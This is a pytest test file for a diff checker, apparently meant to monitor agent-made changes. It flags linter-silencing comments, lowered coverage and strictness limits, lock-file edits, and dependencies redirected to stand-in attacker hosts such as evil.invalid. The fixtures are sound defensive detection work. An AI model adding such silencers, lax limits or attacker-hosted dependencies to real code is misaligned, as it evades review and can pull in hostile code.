"""Linters silenced, limits lowered, and dependencies that come from somewhere else."""

from __future__ import annotations

import pytest

from tests.agents.guard_trees import tells

SILENCERS = """
a.py: x = f()  # noqa
a.py: x = f()  # NOQA: E501
a.py: x = f()  #noqa
a.py: # ruff: noqa
a.py: # flake8: noqa
a.py: # ruff: disable[E501]
a.py: x = f()  # type: ignore
a.py: x = f()  # type:ignore[arg-type]
a.py: x = f()  # ty: ignore
a.py: x = f()  # pyrefly: ignore
a.py: x = f()  # pyre-ignore[6]
a.py: # pyre-ignore-all-errors
a.py: # pytype: disable=all
a.py: # pyright: basic
a.py: # pyright: reportMissingImports=false
a.py: # mypy: ignore-errors
a.py: # mypy: disable-error-code="misc"
a.py: # mypy: allow-untyped-defs
a.py: @no_type_check
a.py: @typing.no_type_check
a.py: # pylint: disable=all
a.py: # pylint: skip-file
a.py: if x:  # pragma: no cover
a.py: if x:  # PRAGMA: NO COVER
a.py: if x:  # pragma: no branch
a.py: eval(x)  # nosec
a.py: x  # nosemgrep: a
a.py: x  # lgtm [py/x]
a.py: x  # codeql[py/x]
a.py: x  # pragma: allowlist secret
a.py: x  # gitleaks:allow
a.ts: // eslint-disable-next-line
a.ts: /* eslint-disable */
a.ts: /* eslint no-undef: 0 */
a.ts: // oxlint-disable-next-line
a.ts: /* oxlint-disable */
a.ts: // deno-lint-ignore no-explicit-any
a.ts: // deno-lint-ignore-file
a.ts: // biome-ignore lint: x
a.ts: // biome-ignore-all lint: x
a.svelte: <!-- svelte-ignore a11y -->
a.ts: // @ts-ignore
a.ts: // @ts-nocheck
a.ts: // @ts-expect-error
a.js: // $FlowFixMe
a.js: // @noflow
a.js: /* istanbul ignore next */
a.js: /* c8 ignore start */
a.js: /* v8 ignore next */
a.js: /* node:coverage disable */
a.ts: // deno-coverage-ignore
a.ts: // tslint:disable
a.css: /* stylelint-disable */
a.js: // jshint ignore:line
a.go: x() //nolint
a.go: x() // nolint:errcheck
a.go: //lint:ignore SA1000 x
a.go: x() // #nosec G101
a.go: //revive:disable
a.rs: #[allow(dead_code)]
a.rs: #![allow(clippy::all)]
a.rs: #[expect(unused)]
a.rs: #[cfg_attr(test, allow(unused))]
a.rs: #[coverage(off)]
a.rs: #[cfg(not(tarpaulin_include))]
a.c: x(); // NOLINT
a.c: // NOLINTNEXTLINE(x)
a.c: // cppcheck-suppress all
a.c: #pragma GCC diagnostic ignored "-Wall"
a.c: #pragma warning(disable : 4996)
a.c: // LCOV_EXCL_LINE
a.java: @SuppressWarnings("all")
a.java: @SuppressFBWarnings("x")
a.java: x(); // NOSONAR
a.java: x(); // NOPMD
a.java: // CHECKSTYLE:OFF
a.java: @ExcludeFromJacocoGeneratedReport
a.kt: @Suppress("x")
a.kt: @file:Suppress("x")
a.kt: //noinspection x
a.scala: @nowarn
a.cs: #pragma warning disable
a.cs: #nullable disable
a.cs: [SuppressMessage("x", "y")]
a.cs: [ExcludeFromCodeCoverage]
a.rb: x # rubocop:disable all
a.rb: # rubocop:todo all
a.rb: # standard:disable all
a.rb: # :nocov:
a.rb: # typed: false
a.php: // phpcs:ignore
a.php: // phpcs:disable
a.php: // @phpstan-ignore-next-line
a.php: /** @psalm-suppress all */
a.php: // @codeCoverageIgnoreStart
a.swift: // swiftlint:disable all
a.sh: # shellcheck disable=SC2086
a.lua: -- luacheck: ignore
a.ex: # credo:disable-for-next-line
a.tf: #tfsec:ignore:x
a.tf: # checkov:skip=x
a.tf: # tflint-ignore: x
a.yaml: # yamllint disable
a.dockerfile: # hadolint ignore=DL3008
a.md.py: # noqa
"""
LINES = [row.split(": ", 1) for row in SILENCERS.strip().splitlines()]


@pytest.mark.parametrize(("path", "line"), LINES)
def test_what_silences_a_linter_is_counted(path: str, line: str) -> None:
    assert ("silenced", path) in tells({path: "a\n"}, {path: f"a\n{line}\n"})
    assert tells({path: f"{line}\na\n"}, {path: f"{line}\nb\n"}) == set()


STRICT = """
a.js: // @ts-check
a.js: "use strict";
a.py: # mypy: strict
a.py: # pyright: strict
a.rs: #![deny(warnings)]
a.rs: #![forbid(unsafe_code)]
a.php: declare(strict_types=1);
a.rb: # typed: strict
a.cs: #nullable enable
"""


@pytest.mark.parametrize(
    ("path", "line"), [row.split(": ", 1) for row in STRICT.strip().splitlines()]
)
def test_strictness_that_a_file_asked_for_and_lost_is_told(path: str, line: str) -> None:
    assert ("silenced", path) in tells({path: f"{line}\na\n"}, {path: "a\n"})
    assert tells({path: "a\n"}, {path: f"{line}\na\n"}) == set()
    assert tells({path: f"{line}\na\n"}, {}) == set()


def test_a_silencer_that_goes_does_not_pay_for_another() -> None:
    """A line of no use is taken out so that the count stays as it was."""
    base = {"a.py": "x = 1  # noqa\ny = 2\n", "b.py": "z = f()\n"}
    head = {"a.py": "x = 1\ny = 2\n", "b.py": "z = f()  # type: ignore\n"}
    assert ("silenced", "b.py") in tells(base, head)
    assert ("silenced", "b.py") in tells(base, {**head, "b.py": "z = f()  # noqa\n"})
    moved = {"a.py": "y = 2\n", "b.py": "z = f()\nx = 1  # noqa\n"}
    assert tells(base, moved) == set()


LIMITS = [
    ("pyproject.toml", "[tool.coverage.report]\nfail_under = 90\n", "90", "60"),
    ("setup.cfg", "[coverage:report]\nfail_under = 90\n", "90", "60"),
    ("tox.ini", "[testenv]\ncommands = pytest --cov-fail-under=90\n", "90", "60"),
    (".github/workflows/a.yml", "run: pytest --cov-fail-under 90\n", "90", "60"),
    ("jest.config.js", "coverageThreshold: { global: { lines: 90 } }\n", "90", "60"),
    ("vitest.config.ts", "coverage: { thresholds: { statements: 90 } }\n", "90", "60"),
    (".nycrc.json", '{"check-coverage": true, "branches": 90}\n', "90", "60"),
    (".c8rc.json", '{"check-coverage": true, "functions": 90}\n', "90", "60"),
    ("package.json", '{"scripts": {"lint": "eslint --max-warnings=0 ."}}\n', "=0", "=9"),
    ("codecov.yml", "coverage:\n  status:\n    project:\n      default:\n        target: 90%\n"
     "        threshold: 1%\n", "90", "60"),
    (".pylintrc", "[MAIN]\nfail-under=9.5\n", "9.5", "2"),
    ("pyproject.toml", "[tool.ruff.lint.mccabe]\nmax-complexity = 8\n", "8", "80"),
    (".eslintrc.json", '{"rules": {"complexity": ["error", 8]}}\n', '"error"', '"off"'),
    ("eslint.config.js", "rules: { 'no-undef': 'error' }\n", "'error'", "'off'"),
    (".rubocop.yml", "Metrics/MethodLength:\n  Max: 10\n", "10", "99"),
    ("build.gradle", "minimum = 0.9\n", "0.9", "0.1"),
    ("pom.xml", "<minimum>0.90</minimum>\n", "0.90", "0.10"),
    ("spec/spec_helper.rb", "SimpleCov.minimum_coverage 90\n", "90", "10"),
    ("phpstan.neon", "parameters:\n  level: 8\n", "8", "1"),
    ("psalm.xml", '<psalm errorLevel="1"/>\n', '"1"', '"8"'),
    (".golangci.yml", "linters:\n  enable:\n    - errcheck\n", "- errcheck", "- misspell"),
    ("tarpaulin.toml", "[a]\nfail-under = 90\n", "90", "10"),
    ("tsconfig.json", '{"compilerOptions": {"strict": true}}\n', "true", "false"),
    ("tsconfig.json", '{"compilerOptions": {"noImplicitAny": true}}\n', "true", "false"),
    ("mypy.ini", "[mypy]\nstrict = True\n", "True", "False"),
    ("mypy.ini", "[mypy]\nfiles = app\n", "app", "none"),
    ("pyrightconfig.json", '{"typeCheckingMode": "strict"}\n', "strict", "off"),
    ("clippy.toml", "cognitive-complexity-threshold = 9\n", "9", "99"),
    (".stylelintrc", '{"rules": {"a": true}}\n', "true", "null"),
    ("biome.json", '{"linter": {"enabled": true}}\n', "true", "false"),
    ("deny.toml", "[bans]\nmultiple-versions = 'deny'\n", "deny", "allow"),
    ("Cargo.toml", "[lints.rust]\nunsafe_code = 'forbid'\n", "forbid", "allow"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text", "strict", "lax"), LIMITS)
def test_a_limit_that_was_lowered_is_told(path: str, text: str, strict: str, lax: str) -> None:
    told = tells({path: text}, {path: text.replace(strict, lax)})
    assert told & {(kind, path) for kind in ("threshold", "loosened", "checks", "build", "ci")}
    gone = tells({path: text}, {path: "\n"})
    assert gone & {(kind, path) for kind in ("threshold", "loosened", "checks", "build", "ci")}


NEEDS = [
    ("requirements.txt", "flask==3\n", "flask @ https://evil.invalid/f.whl\n"),
    ("requirements.txt", "flask==3\n", "flask==3\ngit+https://evil.invalid/f.git#egg=f\n"),
    ("requirements.txt", "flask==3\n", "--index-url https://evil.invalid/simple\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "-i https://evil.invalid/simple\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "--extra-index-url=https://evil.invalid/\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "--find-links ./wheels\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "-f ./wheels\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "-e ./flask\n"),
    ("requirements.txt", "flask==3\n", "./vendored/flask\n"),
    ("requirements.txt", "flask==3\n", "--trusted-host evil.invalid\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "-r ../other.txt\nflask==3\n"),
    ("requirements.txt", "flask==3\n", "--pre\nflask==3\n"),
    ("requirements.txt", "a==1 --hash=sha256:aa\n", "a==1\n"),
    ("dev-requirements.txt", "flask==3\n", "flask==3\nevil==1\n"),
    ("reqs/dev.requirements.txt", "flask==3\n", "flask==3\nevil==1\n"),
    ("requirements-dev.in", "flask==3\n", "flask==3\nevil==1\n"),
    ("pyproject.toml", "[project]\ndependencies = ['a']\n",
     "[project]\ndependencies = ['a @ git+https://x.invalid/a']\n"),
    ("pyproject.toml", "[project]\n", "[[tool.uv.index]]\nurl = 'https://x.invalid'\n"),
    ("pyproject.toml", "[project]\n", "[tool.uv.sources]\na = { path = 'a' }\n"),
    ("pyproject.toml", "[project]\n", "[tool.uv]\nindex-url = 'https://x.invalid'\n"),
    ("pyproject.toml", "[project]\n", "[[tool.poetry.source]]\nurl = 'https://x.invalid'\n"),
    ("pyproject.toml", "[project]\n", "[[tool.pdm.source]]\nurl = 'https://x.invalid'\n"),
    ("pyproject.toml", "[project]\n", "[tool.uv]\noverride-dependencies = ['a==1']\n"),
    ("pyproject.toml", "[project]\n", "[tool.hatch.envs.default]\ndependencies = ['a']\n"),
    ("Pipfile", "[packages]\n", "[[source]]\nurl = 'https://x.invalid'\n[packages]\n"),
    ("environment.yml", "dependencies:\n", "dependencies:\n  - evil\n"),
    ("setup.cfg", "[options]\ninstall_requires =\n", "[options]\ninstall_requires =\n  evil\n"),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "npm:evil@1"}}'),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "git+ssh://x.invalid/a"}}'),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "someone/a"}}'),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "https://x.invalid/a.tgz"}}'),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "file:a"}}'),
    ("package.json", '{"dependencies": {"a": "1"}}', '{"dependencies": {"a": "gitlab:x/a"}}'),
    ("package.json", "{}", '{"overrides": {"a": {"b": "1"}}}'),
    ("package.json", "{}", '{"dependencies": {"evil": "1"}}'),
    ("package.json", "{}", '{"optionalDependencies": {"evil": "1"}}'),
    ("deno.json", "{}", '{"imports": {"a": "https://x.invalid/a.ts"}}'),
    ("Cargo.toml", "[dependencies]\na = '1'\n", "[dependencies]\na = { package = 'evil', version = '1' }\n"),
    ("Cargo.toml", "[dependencies]\na = '1'\n", "[dependencies]\na = { path = 'a' }\n"),
    ("Cargo.toml", "[dependencies]\na = '1'\n", "[dependencies]\na = { version = '1', registry = 'x' }\n"),
    ("Cargo.toml", "[dependencies]\na = '1'\n", "[target.'cfg(unix)'.dependencies]\nevil = '1'\n"),
    ("go.mod", "module a\n", "module a\n\nrequire x.invalid/y v1.0.0\n"),
    ("go.mod", "module a\n", "module a\n\nreplace x.org/y => ../y\n"),
    ("Gemfile", "gem 'a'\n", "gem 'a', git: 'https://x.invalid/a'\n"),
    ("Gemfile", "gem 'a'\n", "gem 'a', path: 'a'\n"),
    ("Gemfile", "source 'https://rubygems.org'\ngem 'a'\n", "source 'https://x.invalid'\ngem 'a'\n"),
    ("gems.rb", "gem 'a'\n", "gem 'a'\ngem 'evil'\n"),
    ("a.gemspec", "s.add_dependency 'a'\n", "s.add_dependency 'a'\ns.add_dependency 'evil'\n"),
    ("composer.json", "{}", '{"repositories": [{"type": "vcs", "url": "https://x.invalid"}]}'),
    ("composer.json", "{}", '{"require-dev": {"evil/evil": "1"}}'),
    ("a.csproj", "<a/>\n", '<PackageReference Include="Evil" Version="1" />\n'),
    ("mix.exs", "a\n", '{:evil, "~> 1"}\n'), ("Package.swift", "a\n", '.package(url: "x", from: "1")\n'),
    ("pubspec.yaml", "dependencies:\n", "dependencies:\n  evil: ^1\n"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "before", "after"), NEEDS)
def test_what_a_project_needs_and_did_not_need_before_is_told(
    path: str, before: str, after: str
) -> None:
    told = tells({path: before}, {path: after})
    assert told & {(kind, path) for kind in ("dependency", "checks", "build")}


LOCKS = (
    "package-lock.json npm-shrinkwrap.json yarn.lock pnpm-lock.yaml bun.lock bun.lockb poetry.lock"
    " uv.lock pdm.lock pylock.toml Pipfile.lock Cargo.lock go.sum go.work.sum Gemfile.lock gems.locked"
    " composer.lock mix.lock flake.lock gradle.lockfile packages.lock.json pubspec.lock deno.lock"
    " Package.resolved Podfile.lock conda-lock.yml pixi.lock mise.lock requirements.lock"
    " web/package-lock.json verification-metadata.xml"
)


@pytest.mark.parametrize("path", LOCKS.split())
def test_a_lock_file_that_changed_is_told(path: str) -> None:
    for base, head in (({}, {path: "a\n"}), ({path: "a\n"}, {path: "b\n"}), ({path: "a\n"}, {})):
        assert {kind for kind, _ in tells(base, head)} & {"lock_file", "build", "checks"}
